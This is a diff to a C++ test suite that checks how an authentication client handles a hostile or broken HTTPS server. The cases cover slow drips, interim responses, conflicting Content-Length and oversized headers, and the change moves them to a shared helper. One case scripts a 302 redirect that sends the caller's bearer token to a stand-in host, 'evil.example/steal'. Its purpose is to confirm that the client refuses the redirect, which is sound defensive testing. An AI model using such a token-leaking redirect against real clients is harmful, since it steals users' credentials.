@@ -1,6 +1,7 @@
 // A hostile (or just broken) server: every case must end in its own documented error within the
 // operation's deadline, never crash or hang, never send a request twice, and never let the
 // access token into anything the caller can read or log.
+#include "../support/http_bytes.hpp"
 #include "common.hpp"
 
 #include <boost/asio/as_tuple.hpp>
@@ -18,9 +19,7 @@ using genauth::testing::scripted_reply;
 
 namespace {
 
-std::string http_response(const std::string& head, const std::string& body) {
-    return head + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
-}
+using test_support::with_content_length;
 
 scripted_reply raw(std::string bytes, bool close_after = false) {
     scripted_reply r;
@@ -57,7 +56,7 @@ std::vector<hostile_case> cases() {
     return {
         {"drip one byte every 100 ms past the deadline",
          [](const received_request&) {
-             auto r = raw(http_response("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", ok_body));
+             auto r = raw(with_content_length("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", ok_body));
              r.drip_interval = std::chrono::milliseconds(100);
              return r;
          },
@@ -102,18 +101,18 @@ std::vector<hostile_case> cases() {
         {"1xx interim responses before the real one",
          [](const received_request&) {
              return raw("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" +
-                        http_response("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", ok_body));
+                        with_content_length("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n", ok_body));
          },
          {}},
         {"HTTP/1.0 response",
          [](const received_request&) {
-             return raw(http_response("HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n", ok_body), true);
+             return raw(with_content_length("HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n", ok_body), true);
          },
          {}},
         {"duplicate, equal Content-Length",
          [](const received_request&) {
-             return raw(http_response("HTTP/1.1 200 OK\r\nContent-Length: " + std::to_string(ok_body.size()) + "\r\n",
-                                      ok_body));
+             return raw(with_content_length(
+                 "HTTP/1.1 200 OK\r\nContent-Length: " + std::to_string(ok_body.size()) + "\r\n", ok_body));
          },
          {}},
         {"conflicting Content-Length",
@@ -123,14 +122,15 @@ std::vector<hostile_case> cases() {
          {errc::malformed_http}},
         {"3xx redirect (never followed)",
          [](const received_request& r) {
-             return raw(http_response("HTTP/1.1 302 Found\r\nLocation: https://evil.example:8443/steal?t=" +
-                                          r.header("authorization").substr(7) + "\r\n",
-                                      ""));
+             return raw(with_content_length("HTTP/1.1 302 Found\r\nLocation: https://evil.example:8443/steal?t=" +
+                                                r.header("authorization").substr(7) + "\r\n",
+                                            ""));
          },
          {errc::redirect_refused}},
         {"header block over its limit",
          [](const received_request&) {
-             return raw(http_response("HTTP/1.1 200 OK\r\nX-Padding: " + std::string(20000, 'a') + "\r\n", ok_body));
+             return raw(
+                 with_content_length("HTTP/1.1 200 OK\r\nX-Padding: " + std::string(20000, 'a') + "\r\n", ok_body));
          },
          {errc::response_too_large}},
         {"body over its limit",
@@ -282,7 +282,7 @@ BOOST_AUTO_TEST_CASE(redirect_error_names_the_host_only) {
 
 BOOST_AUTO_TEST_CASE(http_1_0_connection_is_not_reused) {
     local_https_server server([](const received_request&) {
-        return raw(http_response("HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n", ok_body), true);
+        return raw(with_content_length("HTTP/1.0 200 OK\r\nContent-Type: application/json\r\n", ok_body), true);
     });
     asio::io_context io;
     genauth::authentication_client client(io, options_for(server));
